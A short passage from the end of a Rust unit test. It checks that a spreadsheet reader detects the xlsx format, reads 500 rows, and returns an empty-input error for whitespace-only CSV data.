        let workbook = xlsx(&[sheet]).unwrap();
        assert_eq!(Format::sniff(on_disk(&workbook).source()), Format::Xlsx);
        assert_eq!(both(&workbook, Format::Xlsx, None).unwrap().rows.len(), 500);
        assert_eq!(both(b" \n\t ", Format::Csv, None), Err(ReadError::Empty));
    }
}
